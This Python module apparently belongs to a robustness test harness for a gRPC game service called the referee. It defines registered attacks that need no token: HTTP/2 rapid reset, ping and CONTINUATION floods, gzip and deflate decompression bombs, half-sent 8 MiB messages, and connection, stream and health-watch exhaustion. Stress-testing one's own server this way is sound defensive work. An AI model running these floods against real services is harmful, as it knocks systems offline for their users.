"""Attacks on the address of the referee, which need no token."""

import contextlib
import gzip
import multiprocessing
import socket
import struct
import time
import zlib
from collections.abc import Callable

from .catalogue import attack
from .wire import (
    CONTINUATION,
    END_HEADERS,
    FRAME_BYTES,
    HEADERS,
    HEALTH_CHECK,
    HEALTH_WATCH,
    PING,
    PLAY,
    Connection,
    Target,
    frame,
    header_block,
    message,
)

MIB = 1 << 20
_HELLO = b"\x0a\x0c\x08\x01\x12\x08stranger"
"""PlayRequest{hello {protocol_version: 1, token: "stranger"}}."""


def text_field(text: bytes) -> bytes:
    """Return a message whose first field is this text."""
    size, prefix = len(text), bytearray([0x0A])
    while size >= 128:
        prefix.append(size % 128 + 128)
        size //= 128
    return bytes([*prefix, size]) + text


@attack()
def silent_streams(target: Target) -> None:
    """Hold 400 streams open that never send Hello."""
    held: list[tuple[Connection, set[int]]] = []
    for _ in target.rounds(0.02):
        with contextlib.suppress(OSError):
            if len(held) < 4:
                held.append((Connection(target), set()))
        for connection, streams in held.copy():
            try:
                connection.pump(0)
                streams.difference_update(connection.ended)
                connection.ended.clear()
                while len(streams) < 100:
                    streams.add(connection.open(PLAY))
            except OSError:
                held.remove((connection, streams))


@attack()
def idle_connections(target: Target) -> None:
    """Hold as many connections open as the system lets this program have; say nothing."""
    _hold_connections(target, b"")


def _hold_connections(target: Target, first: bytes) -> None:
    def hold() -> None:
        held: list[socket.socket] = []
        for number in target.rounds():
            try:
                held.append(target.connect_bare() if number % 2 else target.connect())
                held[-1].sendall(first)
            except OSError:
                time.sleep(0.05)
                if number % 100 == 99:  # replace those that the server has closed
                    held = [one for one in held if _is_open(one)]

    _in_processes(hold, 4)


def _is_open(one: socket.socket) -> bool:
    try:
        one.setblocking(False)
        return one.recv(65_536) != b""
    except BlockingIOError:
        return True
    except OSError:
        return False


def _in_processes(work: Callable[[], None], number: int) -> None:
    """Do this in so many processes, each with its own limit of descriptors."""
    fork = multiprocessing.get_context("fork")
    children = [fork.Process(target=work) for _ in range(number)]
    for child in children:
        child.start()
    for child in children:
        child.join()


@attack()
def health_names(target: Target) -> None:
    """Check the health of services with names of 6 MiB."""
    _call_again(target, HEALTH_CHECK, text_field(b"n" * (6 * MIB)))


def _call_again(target: Target, path: str, request: bytes, calls: int = 4) -> None:
    """Repeat a call, so many times at once on one connection."""
    for _ in target.rounds(0.01):
        with contextlib.suppress(OSError), Connection(target) as connection:
            for _ in target.rounds():
                streams = [connection.call(path, request) for _ in range(calls)]
                for stream in streams:
                    connection.wait_for_end(stream)
                    connection.ended.discard(stream)


@attack()
def health_watches(target: Target) -> None:
    """Open 30,000 Health.Watch, and drop all of them at once."""
    for _ in target.rounds(0.1):
        held = []
        with contextlib.suppress(OSError):
            for _ in range(10):
                held.append(Connection(target))
                for number in range(3_000):
                    held[-1].call(HEALTH_WATCH, text_field(b"asara.v1.PlayService"))
                    if number % 50 == 0:
                        held[-1].pump(0)
        for connection in held:
            connection.close()


@attack()
def dial_in(target: Target) -> None:
    """Dial in with a wrong token, in a loop."""
    for _ in target.rounds(0.01):
        with contextlib.suppress(OSError), Connection(target) as connection:
            for number in target.rounds():
                connection.call(PLAY, _HELLO)
                if number % 20 == 0:
                    connection.pump(0)
                    connection.ended.clear()


@attack()
def rapid_reset(target: Target) -> None:
    """Open streams and reset them at once."""
    block = header_block(PLAY)
    for _ in target.rounds(0.01):
        with contextlib.suppress(OSError), Connection(target) as connection:
            stream = 1
            for _ in target.rounds():
                burst = bytearray()
                for _ in range(100):
                    burst += frame(HEADERS, END_HEADERS, stream, block)
                    burst += frame(3, 0, stream, struct.pack(">I", 8))
                    stream += 2
                connection.send(bytes(burst))
                connection.pump(0)
                connection.ended.clear()


def _flood(target: Target, burst: bytes, *, stream: bool = False) -> None:
    """Send these frames again and again, after a call was opened if `stream`."""
    for _ in target.rounds(0.01):
        with contextlib.suppress(OSError), Connection(target) as connection:
            if stream:
                connection.open(PLAY)
            for _ in target.rounds():
                connection.send(burst)
                connection.pump(0)


@attack()
def pings(target: Target) -> None:
    """Ping without a pause."""
    _flood(target, frame(PING, 0, 0, bytes(8)) * 1_000)


@attack()
def continuations(target: Target) -> None:
    """Begin headers and never end them."""
    for _ in target.rounds(0.01):
        with contextlib.suppress(OSError), Connection(target) as connection:
            connection.send(frame(HEADERS, 0, 1, header_block(PLAY)))
            more = b"\0\x01x" + b"\x7f" + b"\x80\x7e" + b"y" * 16_255
            for _ in target.rounds():
                connection.send(frame(CONTINUATION, 0, 1, more[:FRAME_BYTES]))


@attack()
def half_messages(target: Target) -> None:
    """Send all but the last byte of messages of 8 MiB, on many streams."""
    body = message(bytes(8 * MIB - 16))[:-1]
    held = []
    for _ in target.rounds(0.01):
        with contextlib.suppress(OSError):
            connection = Connection(target)
            held.append(connection)
            for _ in range(20):
                connection.write(connection.open(PLAY), body)
                connection.write(connection.open(HEALTH_CHECK), body)


@attack()
def inflated_messages(target: Target) -> None:
    """Send compressed messages that inflate a thousandfold."""
    bombs = {"gzip": gzip.compress(bytes(60 * MIB)), "deflate": zlib.compress(bytes(8 * MIB - 99))}
    for _ in target.rounds(0.01):
        with contextlib.suppress(OSError), Connection(target) as connection:
            for number in target.rounds():
                name = ("gzip", "deflate")[number % 2]
                for path in (PLAY, HEALTH_CHECK):
                    stream = connection.open(path, [("grpc-encoding", name)])
                    connection.write(stream, message(bombs[name], compressed=True), end=True)
                    if number % 8 == 7:
                        connection.wait_for_end(stream, 0.5)
                connection.pump(0)
                if number % 8 == 7:
                    connection.ended.clear()
